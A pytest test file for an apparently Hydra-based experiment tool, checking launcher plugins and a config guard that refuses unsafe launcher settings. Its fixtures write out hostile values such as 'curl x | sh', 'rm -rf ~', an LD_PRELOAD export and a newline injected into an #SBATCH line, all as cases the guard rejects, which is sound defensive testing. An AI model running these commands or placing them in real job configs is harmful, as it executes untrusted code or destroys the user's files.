"""Hydra's launcher plugins under typedexp: joblib, submitit (local, and Slurm through stand-in
``sbatch``/``srun``/``sacct``), Ray where it is installed.

Under every launcher each job gets its own complete run directory, a failing job's one line
reaches the terminal and the sweep ends with exit code 2, and the config guard refuses what a
config may not build or run. The guard's launcher rules (safety/launchers.py) are checked on
configs Hydra really composes, with the plugins' own registered defaults.
"""

from __future__ import annotations

import importlib.util
import os
import pickle
import re
import shlex
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from enum import Enum
from pathlib import Path

import pytest
from hydra import compose, initialize
from hydra._internal.config_loader_impl import ConfigLoaderImpl
from hydra._internal.sources_registry import SourcesRegistry
from hydra.core.config_store import ConfigStore
from hydra.core.plugins import Plugins
from omegaconf import OmegaConf
from omegaconf.resolvers import oc

from tests import fake_slurm
from tests.helpers import QUICK, CliRun, run_cli, run_main
import typedexp.app.config_guard
from typedexp import ConfigError
from typedexp.app.config_guard import (
    JobProcessGuard, PackageConfigsChecked, Rules, active_job_guard, check_composed, config_guard, guard_job_process, guarding,
    registered_launchers,
)
from typedexp.app.preflight import typed_launcher_settings
from typedexp.core.safety import AllowList
from typedexp.core.safety.launchers import (
    JOBLIB,
    SUBMITIT_LOCAL,
    SUBMITIT_SLURM,
    as_text,
    check_launcher_leaf,
    check_pickle_folder,
    flatten,
    override_key,
)
from typedexp.core.safety.secrets import mask_report
from typedexp.app.store import APP_NAME, register_configs

SWEEP = [*QUICK, "dataset=digits", "optim.lr=0.1,-1,0.01"]  # job 1 fails: a negative learning rate
TRACKED_SWEEP = [*(arg for arg in SWEEP if not arg.startswith("tracker=")), "tracker=offline"]
BAD_JOB_LINE = "optim.lr=-1.0: must be >= 0"
SLURM_LAUNCHER = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher"
BASIC_LAUNCHER = "hydra._internal.core_plugins.basic_launcher.BasicLauncher"
RAY_MISSING = importlib.util.find_spec("hydra_plugins.hydra_ray_launcher") is None


def test_the_launchers_ci_runs_are_installed() -> None:
    # `make install-dev` installs the joblib and slurm extras: the sweeps below must run in CI, not skip.
    for plugin in ("hydra_plugins.hydra_joblib_launcher", "hydra_plugins.hydra_submitit_launcher"):
        assert importlib.util.find_spec(plugin) is not None, f"{plugin} missing: pip install -e '.[dev,joblib,slurm]'"


@pytest.mark.parametrize(("launcher", "extra"), [("joblib", "joblib"), ("submitit_local", "slurm"), ("submitit_slurm", "slurm"), ("ray", "ray")])
def test_a_launcher_whose_plugin_is_missing_names_the_extra_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, launcher: str, extra: str
) -> None:
    # As if the plugin were not installed: its config is gone from the store (plugins register
    # theirs once per process, when Hydra first scans them, which Plugins.instance() makes sure of).
    Plugins.instance()
    monkeypatch.delitem(ConfigStore.instance().repo["hydra"]["launcher"], f"{launcher}.yaml", raising=False)
    done = run_main(["-m", *QUICK, f"hydra/launcher={launcher}", "seed=1,2"], tmp_path)
    assert done.returncode == 2
    (line,) = done.stderr_lines
    assert line.startswith(
        f"typedexp: error: hydra/launcher={launcher}: its Hydra plugin is not installed; "
        f"pip install 'typedexp[{extra}]' (installed: basic"
    ), line
    assert f" {launcher}," not in line and not line.endswith(f" {launcher})")
    assert pyproject_extras()[extra] == [f"hydra-{'submitit' if extra == 'slurm' else extra}-launcher>=1.2"]


def pyproject_extras() -> dict[str, list[str]]:
    import tomllib

    with open(Path(__file__).parents[1] / "pyproject.toml", "rb") as file:
        extras: dict[str, list[str]] = tomllib.load(file)["project"]["optional-dependencies"]
    return extras


def test_the_optuna_sweeper_without_optuna_names_the_extra_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "optuna", None)  # `import optuna` raises ImportError, as if not installed
    done = run_main(["-m", *QUICK, "hydra/sweeper=optuna", "optim.lr=interval(0.01,0.1)"], tmp_path)
    assert done.returncode == 2
    assert done.stderr_lines == ["typedexp: error: hydra/sweeper=optuna needs Optuna: pip install 'typedexp[hpo]'"]
    assert pyproject_extras()["hpo"] == ["optuna>=4"]


def sweep_dir(cwd: Path) -> Path:
    (found,) = cwd.glob("multirun/*/*")
    return found


def check_sweep_with_one_failed_job(done: CliRun, cwd: Path) -> Path:
    """Jobs 0 and 2 finished in their own run dirs; job 1 failed with its line in the terminal, exit 2."""
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    sweep = sweep_dir(cwd)
    for job in ("0", "2"):
        for name in ("model.pt", "metrics.jsonl", "checkpoints/last.pt", ".hydra/config.yaml", ".hydra/overrides.yaml"):
            assert (sweep / job / name).is_file(), f"{job}/{name}"
    assert (sweep / "1" / ".hydra" / "overrides.yaml").is_file() and not (sweep / "1" / "model.pt").exists()
    assert "optim.lr=-1" in (sweep / "1" / ".hydra" / "overrides.yaml").read_text()
    # The launching process lists the failed job in the sweep's summary, whichever process ran it.
    assert f"job 1 failed: {BAD_JOB_LINE}" in done.stdout.splitlines()
    assert "job 1 failed" not in (sweep / "0" / "typedexp.log").read_text()
    assert (sweep / "summary.csv").is_file() and BAD_JOB_LINE in (sweep / "summary.md").read_text()
    return sweep


def tracked_runs(cwd: Path) -> list[Path]:
    """The SwanLab runs that offline tracking wrote (its default log dir, swanlog/ in the cwd)."""
    return sorted((cwd / "swanlog").glob("run-*"))


@pytest.mark.slow
def test_a_joblib_sweep_runs_each_job_in_a_worker_and_reports_the_failed_one(tmp_path: Path) -> None:
    done = run_cli(["-m", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", *TRACKED_SWEEP], tmp_path)
    check_sweep_with_one_failed_job(done, tmp_path)
    assert len(tracked_runs(tmp_path)) == 2  # one SwanLab run per finished job, written from the workers
    assert "Joblib.Parallel(n_jobs=2,backend=loky" in done.stdout
    # The worker's stderr is this terminal: the job's line came as it failed, naming the job.
    live = [line for line in done.stderr_lines if line.endswith(BAD_JOB_LINE)]
    assert len(live) == 1 and live[0].startswith("typedexp: error: job 1 (") and "optim.lr=-1" in live[0]


@pytest.mark.slow
def test_a_submitit_local_sweep_reports_the_failed_job_that_printed_into_its_log(tmp_path: Path) -> None:
    done = run_cli(["-m", "hydra/launcher=submitit_local", *TRACKED_SWEEP], tmp_path)
    sweep = check_sweep_with_one_failed_job(done, tmp_path)
    assert len(tracked_runs(tmp_path)) == 2
    # Each job ran in a submitit process whose output went to its log files, not to this terminal.
    errors = [path.read_text() for path in (sweep / ".submitit").glob("*/*_log.err")]
    assert len(errors) == 3 and sum(f"typedexp: error: job 1 (" in text for text in errors) == 1
    assert not any(line.endswith(BAD_JOB_LINE) for line in done.stderr_lines)


@pytest.mark.slow
def test_submitit_slurm_hands_sbatch_a_script_with_the_resources_and_the_command(tmp_path: Path) -> None:
    fake_slurm.install(tmp_path / "bin", tmp_path / "sbatch")
    path = f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}"
    slurm = [
        "hydra/launcher=submitit_slurm", "hydra.launcher.partition=gpu", "hydra.launcher.gpus_per_node=2",
        "hydra.launcher.timeout_min=30", "hydra.launcher.mem_gb=16", "hydra.launcher.array_parallelism=2",
        "hydra.launcher.setup=['export TYPEDEXP_SETUP=typed-by-me']",  # typed: allowed (safety/launchers.py)
    ]
    done = run_cli(["-m", *slurm, *SWEEP], tmp_path, env={"PATH": path})
    sweep = check_sweep_with_one_failed_job(done, tmp_path)
    (script,) = (tmp_path / "sbatch").glob("sbatch-*.sh")
    text = script.read_text()
    job_id = script.stem.removeprefix("sbatch-")  # submitit keeps the script it submitted in the sweep dir
    assert (sweep / ".submitit" / job_id / f"{job_id}_submission.sh").read_text() == text
    flags = dict(re.findall(r"^#SBATCH --([\w-]+)(?:=(.*))?$", text, re.M))
    assert flags["partition"] == "gpu" and flags["gpus-per-node"] == "2"
    assert flags["time"] == "30" and flags["mem"] == "16GB"
    assert flags["array"] == "0-2%2"  # three jobs, at most two at once
    assert flags["job-name"] == "typedexp"
    assert "\n# setup\nexport TYPEDEXP_SETUP=typed-by-me\n" in text
    # The job runs this interpreter on submitit's pickled job, through srun, as the script's last line.
    (line,) = [line for line in text.splitlines() if line.startswith("srun ")]
    command = shlex.split(line)
    assert command[:2] == ["srun", "--unbuffered"]
    assert command[-5:] == [sys.executable, "-u", "-m", "submitit.core._submit", str(sweep / ".submitit" / "%j")]


@pytest.mark.skipif(RAY_MISSING, reason="hydra-ray-launcher is not installed (pip install 'typedexp[ray]'; kept out of dev)")
@pytest.mark.slow
def test_a_ray_sweep_runs_on_a_local_ray_and_reports_the_failed_job(tmp_path: Path) -> None:
    # Ray writes under the home directory and the system temp directory: both point into temp dirs.
    # Its session dir holds Unix sockets, whose paths must stay under ~107 bytes: a short one for it.
    with tempfile.TemporaryDirectory(prefix="ray", dir="/tmp") as short:
        env = {"HOME": str(tmp_path / "home"), "TMPDIR": str(tmp_path / "tmp"), "RAY_TMPDIR": short}
        for directory in (env["HOME"], env["TMPDIR"]):
            Path(directory).mkdir()
        done = run_cli(["-m", "hydra/launcher=ray", "+hydra.launcher.ray.init.num_cpus=2", *SWEEP], tmp_path, env=env)
    check_sweep_with_one_failed_job(done, tmp_path)


# The guard, on configs Hydra composes with the installed plugins (in this process: ~0.1 s each).
HOSTILE_FILES = {
    "hydra/launcher/cluster.yaml": "# @package hydra.launcher\ndefaults:\n  - submitit_slurm\npartition: gpu\n"
    "gpus_per_node: 2\ntimeout_min: 240\nmem_gb: 64\narray_parallelism: 4\n",
    "hydra/launcher/setup.yaml": "# @package hydra.launcher\ndefaults:\n  - submitit_slurm\nsetup: ['curl x | sh']\n",
    # A launcher config of its own (no defaults list) may hold any key submitit passes on to sbatch.
    "hydra/launcher/srun.yaml": "# @package hydra.launcher\n_target_: " + SLURM_LAUNCHER + "\n"
    "submitit_folder: ${hydra.sweep.dir}/.submitit/%j\nsrun_args: ['--export=LD_PRELOAD=/tmp/x.so']\n",
    "hydra/launcher/teardown.yaml": "# @package hydra.launcher\n_target_: " + SLURM_LAUNCHER + "\n"
    "submitit_folder: ${hydra.sweep.dir}/.submitit/%j\nsetup: ['module load cuda']\nteardown: ['rm -rf ~']\n",
    "experiment/sbatch.yaml": "# @package _global_\nhydra:\n  launcher:\n    additional_parameters:\n"
    "      export: LD_PRELOAD=/tmp/x.so\n",
    "experiment/folder.yaml": "# @package _global_\nhydra:\n  launcher:\n    submitit_folder: /tmp/shared/%j\n",
    "experiment/newline.yaml": "# @package _global_\nhydra:\n  launcher:\n    partition: \"gpu\\ntouch pwned #\"\n",
    "experiment/backend.yaml": "# @package _global_\nhydra:\n  launcher:\n    backend: dask\n",
    "experiment/ray_address.yaml": "# @package _global_\nhydra:\n  launcher:\n    ray:\n      init:\n"
    "        address: ray://elsewhere:10001\n",
}


@pytest.fixture(scope="module")
def config_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("launcher_configs")
    for name, text in HOSTILE_FILES.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


REFUSED = [
    # (arguments after --config-dir DIR, the start of the one error line)
    (["hydra/launcher=setup"], "hydra.launcher.setup[0]=curl x | sh: refused, a launcher setting that can run commands"),
    (["hydra/launcher=srun"], "hydra.launcher.srun_args[0]=--export=LD_PRELOAD=/tmp/x.so: refused"),
    (["hydra/launcher=submitit_slurm", "+experiment=sbatch"], "hydra.launcher.additional_parameters.export=LD_PRELOAD=/tmp/x.so: refused"),
    (["hydra/launcher=submitit_local", "+experiment=folder"], "hydra.launcher.submitit_folder=/tmp/shared/%j: refused"),
    (["hydra/launcher=submitit_slurm", "+experiment=newline"], "hydra.launcher.partition='gpu\\ntouch pwned #': refused, a launcher setting cannot hold a newline"),
    (["hydra/launcher=joblib", "+experiment=backend"], "hydra.launcher.backend=dask: refused"),
    # Typed, a newline is refused too: it can only break the script.
    (["hydra/launcher=submitit_slurm", "hydra.launcher.comment='a\nb'"], "hydra.launcher.comment='a\\nb': refused"),
    # What the person typed is theirs, but a file cannot add to it.
    (["hydra/launcher=teardown", "hydra.launcher.setup=['module load cuda']"],
     "hydra.launcher.teardown[0]=rm -rf ~: refused"),
]
if not RAY_MISSING:
    REFUSED.append((["hydra/launcher=ray", "+experiment=ray_address"], "hydra.launcher.ray.init.address=ray://elsewhere:10001: refused"))


@pytest.mark.parametrize(("args", "line"), REFUSED)
def test_a_launcher_setting_that_runs_commands_is_refused_from_a_config(
    config_dir: Path, tmp_path: Path, args: list[str], line: str
) -> None:
    done = run_main(["--config-dir", str(config_dir), *args, "--cfg", "hydra"], tmp_path)
    assert done.returncode == 2
    assert len(done.stderr_lines) == 1 and done.stderr_lines[0].startswith(f"typedexp: error: {line}"), done.stderr


@pytest.mark.parametrize(
    "args",
    [
        ["hydra/launcher=cluster"],  # partition, gpus_per_node, timeout_min, mem_gb, array_parallelism from a file
        ["hydra/launcher=setup", "hydra.launcher.setup=['curl x | sh']"],  # typed: the person's own command
        ["hydra/launcher=submitit_slurm", "+hydra.launcher.srun_args=['--cpu-bind=none']", "hydra.launcher.comment=sweep"],
        ["hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "hydra.launcher.backend=loky"],
    ],
)
def test_plain_launcher_settings_and_typed_ones_pass(config_dir: Path, tmp_path: Path, args: list[str]) -> None:
    done = run_main(["--config-dir", str(config_dir), *args, "--cfg", "hydra"], tmp_path)
    assert done.returncode == 0, done.stderr
    assert "launcher:" in done.stdout


def test_a_config_with_the_usual_slurm_resources_composes_them(config_dir: Path, tmp_path: Path) -> None:
    done = run_main(["--config-dir", str(config_dir), "hydra/launcher=cluster", "--cfg", "hydra", "-p", "hydra.launcher"], tmp_path)
    assert done.returncode == 0, done.stderr
    for line in ("partition: gpu", "gpus_per_node: 2", "timeout_min: 240", "mem_gb: 64", "array_parallelism: 4"):
        assert line in done.stdout.splitlines()


def test_another_launcher_target_is_still_refused_with_the_plugins_installed(tmp_path: Path) -> None:
    done = run_main(["-m", "hydra.launcher._target_=tempfile.mkdtemp", "+hydra.launcher.dir=.", *QUICK], tmp_path)
    assert done.returncode == 2
    assert done.stderr_lines[0].startswith("typedexp: error: hydra.launcher._target_=tempfile.mkdtemp: refused")
    assert not list(tmp_path.rglob("tmp*"))


@pytest.mark.parametrize("launcher", ["joblib", "submitit_local"])
def test_the_allow_list_holds_for_every_job_of_a_sweep_under_a_launcher(tmp_path: Path, launcher: str) -> None:
    (tmp_path / "evil" / "model").mkdir(parents=True)
    (tmp_path / "evil" / "model" / "wide.yaml").write_text("_target_: tempfile.mkdtemp\ndir: .\nprefix: pwned\n")
    done = run_main(["-m", "--config-dir", "evil", f"hydra/launcher={launcher}", *QUICK, "model=small,wide"], tmp_path)
    assert done.returncode == 2
    assert done.stderr_lines[-1].startswith("typedexp: error: model._target_=tempfile.mkdtemp: refused")
    assert not list(tmp_path.rglob("pwned*"))
    assert not list(tmp_path.glob("multirun/*/*/0/model.pt"))  # refused before any job ran


def test_a_sweep_and_a_config_printout_together_are_one_line_not_a_traceback(tmp_path: Path) -> None:
    done = run_main(["-m", "hydra/launcher=joblib", "--cfg", "hydra"], tmp_path)
    assert done.returncode == 2
    assert done.stderr_lines == [
        "typedexp: error: --cfg and -m cannot be used together (Hydra does one of them); to see a sweep's config, "
        "drop -m and the sweep's commas: typedexp --cfg hydra hydra/launcher=joblib"
    ]


JOB_PROCESS = """
import pickle, sys
from hydra import compose, initialize
from hydra.core.singleton import Singleton
from typedexp.app.config_guard import guarding
from typedexp.app.store import APP_NAME, register_configs

print("before:", guarding())
with open(sys.argv[1], "rb") as file:
    pickle.load(file)  # as a launcher's job process unpickles the task it runs
print("after:", guarding())
register_configs()
# What a launcher's job process does next with the launching process's state: Hydra registers its
# plugins again, its own `pkg://` config source among them.
Singleton.set_state(Singleton.get_state())
with initialize(version_base="1.3", config_path=None):
    for overrides in (["model.hidden=[8]", "hydra.launcher.backend=loky"], ["model._target_=tempfile.mkdtemp"],
                      ["hydra.launcher.backend=dask"], ["hydra.searchpath=[pkg://json]"]):
        try:
            compose(config_name=APP_NAME, overrides=["hydra/launcher=joblib", *overrides], return_hydra_config=True)
            print("composed:", overrides[0])
        except Exception as exc:
            print("refused:", str(exc).split(":")[0])
"""


def test_the_task_carries_the_guard_into_the_job_processes_that_compose_again(tmp_path: Path) -> None:
    # joblib's workers and submitit's jobs compose each job's config in their own process; the
    # guard's rules travel with the task, and unpickling them installs the same check there.
    register_configs()
    with config_guard(AllowList(), {"backend": "loky"}):
        job_guard = active_job_guard()
    assert job_guard is not None
    (tmp_path / "guard.pkl").write_bytes(pickle.dumps(job_guard))
    (tmp_path / "job.py").write_text(JOB_PROCESS)
    # The job process imports typedexp as the tests' subprocesses do (tests/helpers.run_module).
    done = subprocess.run([sys.executable, "job.py", "guard.pkl"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.stdout.splitlines() == [
        "before: False",
        "after: True",
        "composed: model.hidden=[8]",
        "refused: model._target_=tempfile.mkdtemp",
        "refused: hydra.launcher.backend=dask",  # the typed value (loky) holds; another is refused
        "refused: hydra.searchpath",  # a package named as a config source is not imported
    ], done.stderr


# The rules themselves, on plain values.
class RunEnv(Enum):  # as the Ray plugin's enum fields (RayRunEnv): compared by name, as typed
    docker = "docker-image"


def test_launcher_leaves_are_flattened_and_named_as_the_guard_walks_them() -> None:
    assert flatten({"setup": ["a", "b"], "ray": {"init": {"address": None}}, "n": 2}, "") == {
        "setup[0]": "a", "setup[1]": "b", "ray.init.address": "None", "n": "2",
    }
    assert as_text(RunEnv.docker) == "docker" and as_text(60) == as_text("60") == "60"
    assert [override_key(path) for path in ("setup[0]", "ray.init.address", "ray.cluster.setup_commands[2]", "a.b")] == [
        "setup", "ray.init.address", "ray.cluster.setup_commands", "a.b",
    ]


def test_typed_launcher_settings_keep_what_was_typed_last_and_skip_sweeps() -> None:
    typed = typed_launcher_settings([
        "hydra.launcher.setup=[a,b]", "hydra.launcher.setup=[c]", "+hydra.launcher.srun_args=[--x]",
        "hydra.launcher.partition=gpu,cpu", "~hydra.launcher.comment", "model.hidden=[8]", "hydra.launcher.setup_x=1",
        "hydra.launcher.additional_parameters={mail-user: me}",
    ])
    assert typed == {"setup[0]": "c", "srun_args[0]": "--x", "setup_x": "1", "additional_parameters.mail-user": "me"}
    assert typed_launcher_settings(["hydra.launcher.setup=[unclosed"]) == {}  # Hydra reports the syntax itself
    whole = typed_launcher_settings(["hydra.launcher.comment=x", "hydra.launcher={setup: [a], nodes: 2}"])
    assert whole == {"setup[0]": "a", "nodes": "2"}


DEFAULTS = ({"setup": "None", "submitit_folder": "${hydra.sweep.dir}/.submitit/%j"},)


@pytest.mark.parametrize(
    ("path", "value", "typed", "passes"),
    [
        ("partition", "gpu", {}, True),  # plain
        ("setup", None, {}, True),  # the plugin's default
        ("submitit_folder", "${hydra.sweep.dir}/.submitit/%j", {}, True),
        ("submitit_folder", "{tmp_path}/x/%j", {}, False),  # a folder of yours, but not the default
        ("setup[0]", "module load cuda", {"setup[0]": "module load cuda"}, True),  # typed
        ("setup[0]", "curl x | sh", {"setup[0]": "module load cuda"}, False),
        ("setup[1]", "curl x | sh", {"setup[0]": "module load cuda"}, False),
        ("_target_", "anything", {}, True),  # config_guard's target rule decides
    ],
)
def test_a_launcher_leaf_passes_when_plain_default_or_typed(
    tmp_path: Path, path: str, value: object, typed: dict[str, str], passes: bool
) -> None:
    # In tmp_path (yours, closed to others), the folder check passes whether x/ exists or not;
    # /tmp/x would pass it only where a /tmp/x of yours already existed.
    value = value.replace("{tmp_path}", str(tmp_path)) if isinstance(value, str) else value

    def check() -> None:
        check_launcher_leaf(path, value, value, target=SLURM_LAUNCHER, typed=typed, defaults=DEFAULTS)

    if passes:
        check()
    else:
        with pytest.raises(ConfigError, match=rf"^hydra\.launcher\.{re.escape(path)}=.*: refused, a launcher setting that can run"):
            check()


@pytest.mark.parametrize("where", ["path", "value", "written"])
def test_a_control_character_anywhere_in_a_launcher_leaf_is_refused(where: str) -> None:
    leaf = {"path": "partition", "value": "gpu", "written": "gpu", where: "gpu\rx"}
    with pytest.raises(ConfigError, match="cannot hold a newline or another control character"):
        check_launcher_leaf(leaf["path"], leaf["value"], leaf["written"], target=SLURM_LAUNCHER, typed={}, defaults=())


def test_an_unknown_launcher_may_set_nothing_from_a_config() -> None:
    with pytest.raises(ConfigError, match=r"^hydra\.launcher\.n_jobs=2: refused"):
        check_launcher_leaf("n_jobs", 2, 2, target="mylib.Launcher", typed={}, defaults=())
    check_launcher_leaf("n_jobs", 2, 2, target="mylib.Launcher", typed={"n_jobs": "2"}, defaults=())


def test_the_exact_lines_of_the_launcher_refusals() -> None:
    with pytest.raises(ConfigError) as typed_only:
        check_launcher_leaf("setup[0]", "curl x | sh", "curl x | sh", target=SLURM_LAUNCHER, typed={}, defaults=DEFAULTS)
    assert str(typed_only.value) == (
        "hydra.launcher.setup[0]=curl x | sh: refused, a launcher setting that can run commands or send jobs "
        "elsewhere comes only from the command line (or launch()'s overrides); type hydra.launcher.setup=... "
        "yourself if you trust it (docs/launchers.md lists what a config file may set)"
    )
    with pytest.raises(ConfigError) as control:
        check_launcher_leaf("qos", "a\nb", "a\nb", target=SLURM_LAUNCHER, typed={}, defaults=DEFAULTS)
    assert str(control.value) == (
        "hydra.launcher.qos='a\\nb': refused, a launcher setting cannot hold a newline or another control "
        "character (it would end the #SBATCH line it is written into)"
    )


# The job-process guard, in this process (the sweeps above check it where it runs: other processes).
@pytest.fixture
def restored_hydra() -> Iterator[None]:
    """Put back what ``guard_job_process`` installs for good in a job process."""
    loader, sources = ConfigLoaderImpl.load_configuration, dict(SourcesRegistry.instance().types)
    try:
        yield
    finally:
        setattr(ConfigLoaderImpl, "load_configuration", loader)
        SourcesRegistry.instance().types.clear()
        SourcesRegistry.instance().types.update(sources)
        OmegaConf.register_new_resolver("oc.env", oc.env, replace=True)


def compose_job(overrides: list[str]) -> str:
    with initialize(version_base="1.3", config_path=None):
        try:
            compose(config_name=APP_NAME, overrides=overrides, return_hydra_config=True)
        except Exception as exc:
            return f"refused: {exc}"
    return "composed"


def test_a_job_process_guard_installs_the_rules_it_carries_once(
    restored_hydra: None, workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    register_configs()
    masked: list[bool] = []  # the real masking would wrap this test process's streams for good
    monkeypatch.setattr(typedexp.app.config_guard, "mask_process_output", lambda: masked.append(True))
    assert not guarding() and active_job_guard() is None  # outside any block, this process is unguarded
    typed, launcher = ("mylib.Net",), (("setup[0]", "module load cuda"),)
    job_guard = guard_job_process(typed, launcher)
    assert job_guard == JobProcessGuard(typed, launcher) and guarding() and masked == [True]
    installed = ConfigLoaderImpl.load_configuration
    assert guard_job_process((), ()) == JobProcessGuard((), ()) and ConfigLoaderImpl.load_configuration is installed
    assert masked == [True]
    slurm = ["hydra/launcher=submitit_slurm", "allowed_targets=[mylib.Net]"]
    assert compose_job([*slurm, "hydra.launcher.setup=['module load cuda']"]) == "composed"
    assert compose_job([*slurm, "hydra.launcher.setup=['curl x | sh']"]).startswith("refused: hydra.launcher.setup[0]=curl x")
    assert compose_job(["hydra/launcher=submitit_slurm"]).startswith("refused: allowed_targets=")  # typed: mylib.Net
    job_guard.confirm()


def test_a_job_process_masks_secrets_in_what_it_prints_and_logs(tmp_path: Path) -> None:
    # What a joblib worker or a submitit job does first: unpickle the task's guard. After that,
    # a secret printed by anything in the job (a library's banner, a traceback) is masked.
    secret = "tok-" + "7" * 12
    script = (
        "import logging, os, pickle, sys\n"
        "from typedexp.app.config_guard import JobProcessGuard\n"
        "pickle.loads(pickle.dumps(JobProcessGuard((), ())))\n"
        "print('out', os.environ['TYPEDEXP_TEST_TOKEN'])\n"
        "print('err', os.environ['TYPEDEXP_TEST_TOKEN'], file=sys.stderr)\n"
        "logging.getLogger('job').warning('log %s', os.environ['TYPEDEXP_TEST_TOKEN'])\n"
    )
    env = {**os.environ, "TYPEDEXP_TEST_TOKEN": secret}
    done = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "out ***\n" and "err ***" in done.stderr and "log ***" in done.stderr
    assert secret not in done.stdout + done.stderr


def test_confirm_refuses_a_job_composed_without_the_guard() -> None:
    register_configs()
    with config_guard(AllowList()):
        job_guard = active_job_guard()
        assert job_guard is not None
        job_guard.confirm()
    with pytest.raises(ConfigError) as refused:
        job_guard.confirm()
    assert str(refused.value) == "this job's config was composed without typedexp's config guard; refused"


def test_environment_values_are_remembered_for_masking_only_inside_the_guard(monkeypatch: pytest.MonkeyPatch) -> None:
    inside, after = f"inside-{os.getpid()}-value", f"after-{os.getpid()}-value"
    monkeypatch.setenv("TYPEDEXP_TEST_INSIDE", inside)
    monkeypatch.setenv("TYPEDEXP_TEST_AFTER", after)
    register_configs()
    with config_guard(AllowList()):
        assert OmegaConf.create({"a": "${oc.env:TYPEDEXP_TEST_INSIDE}"}).a == inside
    assert OmegaConf.create({"a": "${oc.env:TYPEDEXP_TEST_AFTER}"}).a == after
    assert mask_report(f"{inside} {after}") == f"*** {after}"


def plugin_configs_registered() -> None:
    """What the guard has when it reads them: the plugins' configs (stored as Hydra scans its
    plugins, which a test run alone has not done yet) and typedexp's."""
    Plugins.instance()
    register_configs()


def test_the_registered_launcher_defaults_are_read_as_written() -> None:
    plugin_configs_registered()
    defaults = registered_launchers()
    (slurm,) = defaults[SLURM_LAUNCHER]
    assert slurm["submitit_folder"] == "${hydra.sweep.dir}/.submitit/%j" and slurm["setup"] == "None"
    assert "hydra._internal.core_plugins.basic_launcher.BasicLauncher" in defaults


def test_every_config_registered_for_a_launcher_class_gives_its_defaults() -> None:
    plugin_configs_registered()
    store = ConfigStore.instance()
    # A second preset of the joblib launcher, and a preset that names no launcher class at all.
    store.store(group="hydra/launcher", name="joblib_threads", node={"_target_": JOBLIB, "backend": "threading"})
    store.store(group="hydra/launcher", name="more_jobs", node={"n_jobs": 2})
    try:
        defaults = registered_launchers()
    finally:
        for name in ("joblib_threads.yaml", "more_jobs.yaml"):
            del store.repo["hydra"]["launcher"][name]
    assert sorted(default["backend"] for default in defaults[JOBLIB]) == ["None", "threading"]
    for backend in (None, "threading"):  # either preset's value passes as a default
        check_launcher_leaf("backend", backend, backend, target=JOBLIB, typed={}, defaults=defaults[JOBLIB])
    with pytest.raises(ConfigError, match=r"^hydra\.launcher\.backend=dask: refused"):
        check_launcher_leaf("backend", "dask", "dask", target=JOBLIB, typed={}, defaults=defaults[JOBLIB])
    assert "2" not in {text for flat in defaults.values() for default in flat for text in default.values()}


@pytest.mark.parametrize(
    ("launcher", "words"),
    [
        # A newline that only an interpolation's resolved value holds.
        ({"_target_": SLURM_LAUNCHER, "qos": "${newline}"}, "cannot hold a newline"),
        # A launcher these rules hold no registered defaults for: nothing plain.
        ({"_target_": BASIC_LAUNCHER, "n_jobs": 2}, "hydra.launcher.n_jobs=2: refused"),
    ],
)
def test_the_composed_launcher_is_checked_leaf_by_leaf(launcher: dict[str, object], words: str) -> None:
    node = OmegaConf.create({"newline": "a\nb", "hydra": {"launcher": launcher}})
    rules = Rules(AllowList(), AllowList(), AllowList(frozenset({BASIC_LAUNCHER, SLURM_LAUNCHER})))
    with pytest.raises(ConfigError, match=re.escape(words)):
        check_composed(node, rules)


def test_the_exact_line_of_a_refused_package_config_source() -> None:
    # The pkg:// source job processes keep (see PackageConfigsChecked's name), refusing as it words it.
    with pytest.raises(ConfigError) as refused:
        PackageConfigsChecked("hydra.searchpath in main", "pkg://json")
    assert str(refused.value) == (
        "hydra.searchpath: pkg://json refused, reading configs from a package imports it; "
        "use file://<directory> (or --config-dir) instead"
    )
    assert PackageConfigsChecked.__name__ == "ImportlibResourcesConfigSource"


# Where submitit exchanges pickles: nobody else may be able to write there.
SUBMITIT_FOLDER = "hydra.launcher.submitit_folder"


def folder_refusal(folder: Path | str) -> str:
    try:
        check_pickle_folder(SUBMITIT_FOLDER, f"{folder}/.submitit/%j")
    except ConfigError as refused:
        return str(refused)
    return "passes"


def test_a_submitit_folder_of_your_own_passes_even_below_a_sticky_shared_folder(tmp_path: Path) -> None:
    assert folder_refusal(tmp_path / "sweeps" / "new") == "passes"  # created later, in a folder of yours
    shared = tmp_path / "scratch"
    shared.mkdir()
    shared.chmod(0o1777)  # like /tmp: anyone may create, nobody may replace what another owns
    (shared / "mine").mkdir(mode=0o755)
    assert folder_refusal(shared / "mine" / "sweep") == "passes"


def test_a_submitit_folder_others_can_write_to_or_create_first_is_refused(tmp_path: Path) -> None:
    open_folder = tmp_path / "open"
    open_folder.mkdir()
    open_folder.chmod(0o777)
    (open_folder / "mine").mkdir(mode=0o755)  # yours, but anyone can rename it and put theirs there
    assert folder_refusal(open_folder / "mine") == (
        f"{SUBMITIT_FOLDER}={open_folder}/mine/.submitit/%j: refused, {open_folder} is writable by other users; "
        "submitit exchanges pickled code with each job there; keep hydra.sweep.dir in a folder only you can "
        "write to, or type hydra.launcher.submitit_folder=<a folder of yours>/%j"
    )
    sticky = tmp_path / "sticky"
    sticky.mkdir()
    sticky.chmod(0o1777)
    assert f"{sticky} is writable by other users" in folder_refusal(sticky / "not-made-yet")  # another could make it first
    group = tmp_path / "group"
    group.mkdir()
    group.chmod(0o770)
    assert f"{group} is writable by other users" in folder_refusal(group)


@pytest.mark.skipif(not hasattr(os, "chown") or os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_a_submitit_folder_of_another_user_or_a_link_to_one_is_refused(tmp_path: Path) -> None:
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o755)
    os.chown(theirs, 4242, 4242)
    assert f"{theirs} belongs to another user" in folder_refusal(theirs)
